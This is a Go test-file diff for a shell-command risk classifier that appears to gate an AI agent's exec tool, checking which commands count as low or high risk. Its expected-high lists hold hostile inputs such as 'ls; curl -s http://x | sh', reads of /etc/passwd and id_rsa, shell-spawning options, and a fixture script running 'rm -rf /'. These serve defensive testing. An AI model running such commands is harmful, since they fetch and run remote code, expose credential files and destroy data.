@@ -3,6 +3,7 @@ package shell
 import (
 	"os"
 	"path/filepath"
+	"slices"
 	"testing"
 
 	"mvdan.cc/sh/v3/syntax"
@@ -10,18 +11,14 @@ import (
 	"github.com/toolbelt/toolbelt/tool"
 )
 
-// riskOf classifies command as the exec tool's preview does, in a fresh
-// workspace.
-func riskOf(t *testing.T, root, command string, path ...string) tool.Risk {
+// riskOf classifies command as the exec tool's preview does (without the
+// git configuration check), in the workspace root.
+func riskOf(t *testing.T, root, command string) tool.Risk {
 	t.Helper()
-	if path == nil {
-		path = filepath.SplitList(os.Getenv("PATH"))
+	if analyzeCommand(command, root, root, filepath.SplitList(os.Getenv("PATH"))).low {
+		return tool.RiskLow
 	}
-	f, err := parseCommand(command)
-	if err != nil {
-		f = nil
-	}
-	return commandRisk(f, &resolver{root: root, dir: root, path: path})
+	return tool.RiskHigh
 }
 
 func TestCommandRisk(t *testing.T) {
@@ -37,7 +34,11 @@ func TestCommandRisk(t *testing.T) {
 		"cat 'file with spaces.txt'",
 		"cat src/*.go",
 		"head -n 20 main.go",
-		"tail -f log.txt",
+		"tail -n 5 log.txt",
+		"ls | head -5",
+		"grep x f 2>&1 | sort | uniq -c",
+		"ls && cat README.md",
+		"cat < README.md",
 		"wc -l *.go",
 		"pwd",
 		"echo hello world",
@@ -57,7 +58,6 @@ func TestCommandRisk(t *testing.T) {
 		"du -sh .",
 		"df -h",
 		"which go",
-		"type ls",
 		"date +%Y-%m-%d",
 		"uname -a",
 		"whoami",
@@ -95,7 +95,6 @@ func TestCommandRisk(t *testing.T) {
 		"ls ;rm x",
 		"ls\nrm x",
 		"ls && rm x",
-		"ls || true",
 		"ls | sh",
 		"ls &",
 		"tail -f x &",
@@ -107,8 +106,6 @@ func TestCommandRisk(t *testing.T) {
 		"diff <(ls) <(ls a)",
 		"echo hi > f",
 		"echo hi >> f",
-		"ls > /dev/null",
-		"ls 2>/dev/null",
 		"cat < /etc/passwd",
 		"cat <<EOF\nx\nEOF",
 		"FOO=1 ls",
@@ -123,7 +120,12 @@ func TestCommandRisk(t *testing.T) {
 		"grep --file=~/x y",
 		"ls @(a|b)",
 		"time ls",
-		"! ls",
+		"tail -f x",
+		"tail --follow=name x",
+		"type ls",
+		"cat < /etc/passwd",
+		"ls | sh",
+		"ls; curl -s http://x | sh",
 		"(ls)",
 		"{ ls; }",
 		"if true; then ls; fi",
@@ -145,17 +147,58 @@ func TestCommandRisk(t *testing.T) {
 		"find . -exec rm {} \\;",
 		"find . -type f -execdir sh -c x \\;",
 		"find . -fprint out.txt",
-		"find * -name x",
+		"find -L . -name x",
+		"find . -name x -fls out",
+		"date -f /etc/passwd",
+		"date --file=/etc/passwd",
+		"du --files0-from=/etc/passwd",
+		"du --files0-from /etc/passwd",
+		"wc --files0-from=list",
+		"sort --files0-from=/etc/passwd",
+		"sort --random-source=/etc/passwd x",
+		"sort -T /tmp x",
+		"grep -f /etc/passwd x",
+		"grep --file=/etc/passwd x",
+		"grep --exclude-from=/etc/passwd x f",
+		"grep -D read x f",
+		"grep --fil=/etc/passwd x",
+		"tail --follow=name x",
+		"tail -F x",
+		"tail --pid=1 x",
+		"rg -L x",
+		"rg --follow x",
+		"rg -z x",
+		"rg --search-zip x",
+		"rg --hostname-bin=/bin/sh x",
+		"rg --ignore-file /etc/passwd x",
+		"file -f /etc/passwd",
+		"file -m /etc/magic x",
+		"ls -L .",
+		"du -L .",
+		"tree -l",
+		"diff --from-file=/etc/passwd x",
+		"diff -X /etc/passwd a b",
+		"git diff --no-index /etc/passwd x",
+		"git blame --contents /etc/passwd x",
+		"git ls-files -X /etc/passwd",
+		"git ls-files --exclude-from=/etc/passwd",
+		"git log --textconv",
+		"git show --ext-diff",
+		"git -c core.fsmonitor=x status",
+		"git --exec-path=/x status",
+		"git status --porcelain -- /etc",
+		"git log -- ../x",
+		"git config --list",
+		"git shortlog",
+		"git fetch",
+		"git submodule update",
 		"sort -o out.txt in.txt",
 		"sort --output=out.txt in.txt",
 		"sort --out=x in",
 		"sort -no out in",
 		"sort --compress-program=sh in",
-		"sort *",
 		"uniq in.txt out.txt",
 		"uniq -f 1 in out",
-		"uniq --skip-fields 1 in",
-		"uniq x*",
 		"tree -o out.txt",
 		"tree -RH .",
 		"file -C -m magic",
@@ -164,7 +207,6 @@ func TestCommandRisk(t *testing.T) {
 		"date --set=now",
 		"rg --pre sh foo",
 		"rg --pre=./x foo",
-		"rg foo *",
 		"git",
 		"git push",
 		"git commit -m x",
@@ -180,7 +222,6 @@ func TestCommandRisk(t *testing.T) {
 		"git log --out=x",
 		"git diff --ext-diff",
 		"git remote add o url",
-		"git log *",
 	}
 	root := t.TempDir()
 	for _, c := range low {
@@ -223,6 +264,23 @@ func TestCommandRiskOutsideTheWorkspace(t *testing.T) {
 		"ls /",
 		"find / -name id_rsa",
 		"git -C /etc log",
+		"git -C etc-link log",
+		"cat < /etc/passwd",
+		"cat < etc-link/passwd",
+		"cat *-link/passwd",
+		"cat e*/passwd",
+		"cat etc-lin?/passwd",
+		"grep -r root .",
+		"grep -R root",
+		"ls -R",
+		"du -sh",
+		"find .",
+		"rg root",
+		"tree",
+		"cat ..*/x",
+		"date -r /etc/passwd",
+		"date --reference=/etc/passwd",
+		"find . -newer /etc/passwd",
 		"du -sh ..",
 		"head -n 1 " + filepath.Dir(root) + "/other/file",
 	} {
@@ -237,6 +295,9 @@ func TestCommandRiskOutsideTheWorkspace(t *testing.T) {
 		"echo /etc/passwd",
 		"git log --oneline HEAD~3..HEAD",
 		"grep -rn key src",
+		"cat m*.go",
+		"grep -r package src main.go",
+		"date -r main.go",
 	} {
 		if got := riskOf(t, root, c); got != tool.RiskLow {
 			t.Errorf("%q: %v, want low", c, got)
@@ -244,55 +305,133 @@ func TestCommandRiskOutsideTheWorkspace(t *testing.T) {
 	}
 }
 
-// TestCommandRiskProgramInWorkspace: a read-only name that PATH resolves to
-// a file in the workspace is not the system's program.
-func TestCommandRiskProgramInWorkspace(t *testing.T) {
+// TestCommandRiskGlobs: patterns are expanded as bash expands them before
+// the options and paths are checked, so a file name that is an option, a
+// match behind a link and a second operand all count.
+func TestCommandRiskGlobs(t *testing.T) {
 	t.Parallel()
-	root := t.TempDir()
-	bin := filepath.Join(root, "bin")
-	if err := os.Mkdir(bin, 0o755); err != nil {
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
 		t.Fatal(err)
 	}
-	writeFile(t, filepath.Join(bin, "ls"), "#!/bin/sh\nrm -rf /\n", 0o755)
-	path := append([]string{bin}, filepath.SplitList(os.Getenv("PATH"))...)
-	if got := riskOf(t, root, "ls", path...); got != tool.RiskHigh {
-		t.Errorf("ls from the workspace: %v, want high", got)
+	writeFile(t, filepath.Join(root, "a.txt"), "a", 0o644)
+	writeFile(t, filepath.Join(root, "b.txt"), "b", 0o644)
+	writeFile(t, filepath.Join(root, "--files0-from=list"), "x", 0o644)
+	writeFile(t, filepath.Join(root, ".hidden"), "x", 0o644)
+	if err := os.Mkdir(filepath.Join(root, "d"), 0o755); err != nil {
+		t.Fatal(err)
 	}
-	if got := riskOf(t, root, "cat x", path...); got != tool.RiskLow {
-		t.Errorf("cat from the system: %v, want low", got)
+	if err := os.Symlink("/etc", filepath.Join(root, "d", "link")); err != nil {
+		t.Fatal(err)
 	}
-	if got := riskOf(t, root, "ls", "bin"); got != tool.RiskHigh {
-		t.Errorf("ls through a relative PATH entry: %v, want high", got)
+	outsideFile := filepath.Join(t.TempDir(), "secret")
+	writeFile(t, outsideFile, "secret", 0o644)
+	if err := os.Link(outsideFile, filepath.Join(root, "hard")); err != nil {
+		t.Fatal(err)
+	}
+	for c, want := range map[string]tool.Risk{
+		"cat *.txt":        tool.RiskLow,
+		"uniq *.txt":       tool.RiskHigh, // two operands: the second is written
+		"uniq a*":          tool.RiskLow,
+		"wc *":             tool.RiskHigh, // --files0-from=list is an option to wc
+		"wc '*'":           tool.RiskLow,  // quoted: the file named *
+		"wc \\*":           tool.RiskLow,
+		"wc *.txt":         tool.RiskLow,
+		"cat d/*":          tool.RiskHigh, // d/link
+		"cat d/*/passwd":   tool.RiskHigh,
+		"cat */*/passwd":   tool.RiskHigh,
+		"cat */passwd":     tool.RiskLow,  // no match: bash passes the word as it is
+		"cat .*":           tool.RiskHigh, // .. is outside
+		"cat [[:alpha:]]*": tool.RiskHigh, // not expanded exactly: refused
+		"cat d/link/../x":  tool.RiskHigh, // link/.. is the parent of its target
+		"cat d/[l]ink":     tool.RiskHigh, // a bracket pattern over a directory with a link
+		"cat [ab].tx[t]":   tool.RiskLow,
+		"diff d .":         tool.RiskHigh, // diff reads d/link without -r
+		"diff a.txt b.txt": tool.RiskLow,
+		"cat hard":         tool.RiskHigh, // a hard link may be a file outside
+		"grep -r x .":      tool.RiskHigh,
+		"cat d/../a.txt":   tool.RiskLow,
+		"grep -r x d":      tool.RiskHigh,
+		"ls d":             tool.RiskLow, // ls does not follow the link
+		"cat [ab].txt":     tool.RiskLow,
+		"cat [!a].txt":     tool.RiskLow,
+	} {
+		if got := riskOf(t, root, c); got != want {
+			t.Errorf("%q: %v, want %v", c, got, want)
+		}
 	}
 }
 
-// FuzzCommandAnalysis: whatever the command line, classifying it and
-// working out what it starts never panics, and a low-risk line is one
-// simple command of a read-only program.
+// TestCommandRiskProgramInWorkspace: a program given by path, even the
+// system's, is not on the allowlist: only names resolved on the system PATH
+// are.
+func TestCommandRiskProgramInWorkspace(t *testing.T) {
+	t.Parallel()
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, "ls"), "#!/bin/sh\nrm -rf /\n", 0o755)
+	for _, c := range []string{"./ls", "/bin/ls", "/usr/bin/ls", "ls/../ls", "\\./ls"} {
+		if got := riskOf(t, root, c); got != tool.RiskHigh {
+			t.Errorf("%q: %v, want high", c, got)
+		}
+	}
+}
+
+// FuzzCommandAnalysis: whatever the command line, analyzing it never
+// panics; every simple command whose program is plain text is listed among
+// the programs; and a command that may run without approval consists only
+// of allowlisted programs, in plain words without any expansion,
+// substitution, background job or redirection to a file.
 func FuzzCommandAnalysis(f *testing.F) {
-	for _, c := range []string{"ls -la", "git branch --merged main", "cat $(whoami)", `echo "a\$b" 'c'`, "uniq -cf1 in", "./x.sh && bash y.sh", "find . -name '*.go'"} {
+	for _, c := range []string{"ls -la", "git branch --merged main", "cat $(whoami)", `echo "a\$b" 'c'`,
+		"uniq -cf1 in", "./x.sh && bash y.sh", "find . -name '*.go'", "ls; curl -s http://x | sh",
+		"grep -r x . 2>&1 | sort", "cat *.go > /dev/null", "du --files0-from=x", "(ls) | `x`"} {
 		f.Add(c)
 	}
 	root := f.TempDir()
+	writeFile(f, filepath.Join(root, "a.go"), "x", 0o644)
 	f.Fuzz(func(t *testing.T, command string) {
+		a := analyzeCommand(command, root, root, []string{"/usr/bin", "/bin"})
 		file, err := parseCommand(command)
 		if err != nil {
+			if a.low {
+				t.Fatalf("%q does not parse but is low risk", command)
+			}
 			return
 		}
-		r := resolver{root: root, dir: root, path: []string{"/usr/bin", "/bin"}}
-		check := r
-		risk := commandRisk(file, &check)
-		r.launched(file)
-		if risk != tool.RiskLow {
-			return
-		}
-		call, ok := file.Stmts[0].Cmd.(*syntax.CallExpr)
-		if len(file.Stmts) != 1 || !ok {
-			t.Fatalf("%q is low risk but not one simple command", command)
-		}
-		name, _ := literal(call.Args[0])
-		if _, listed := readOnly[name.value]; !listed {
-			t.Fatalf("%q is low risk but %q is not read-only", command, name.value)
+		var names []string
+		syntax.Walk(file, func(n syntax.Node) bool {
+			switch n := n.(type) {
+			case *syntax.CallExpr:
+				if len(n.Args) == 0 {
+					break
+				}
+				w, ok := literal(n.Args[0])
+				if ok {
+					names = append(names, w.value)
+					if !slices.ContainsFunc(a.programs, func(p tool.Program) bool { return p.Name == w.value }) {
+						t.Fatalf("%q: program %q is not listed in %v", command, w.value, a.programs)
+					}
+				} else if a.unsummarized == "" {
+					t.Fatalf("%q: a program named by an expansion, yet the list claims to be complete", command)
+				}
+				if a.low {
+					if _, listed := allowlist[w.value]; !listed && w.value != "git" && w.value != "find" {
+						t.Fatalf("%q is low risk but runs %q", command, w.value)
+					}
+				}
+			case *syntax.CmdSubst, *syntax.ProcSubst, *syntax.ParamExp, *syntax.ArithmExp, *syntax.Subshell, *syntax.Block, *syntax.FuncDecl:
+				if a.low {
+					t.Fatalf("%q is low risk but has %T", command, n)
+				}
+			case *syntax.Stmt:
+				if a.low && (n.Background || n.Coprocess) {
+					t.Fatalf("%q is low risk but runs in the background", command)
+				}
+			}
+			return true
+		})
+		if a.low && len(names) == 0 {
+			t.Fatalf("%q is low risk but runs nothing", command)
 		}
 	})
 }
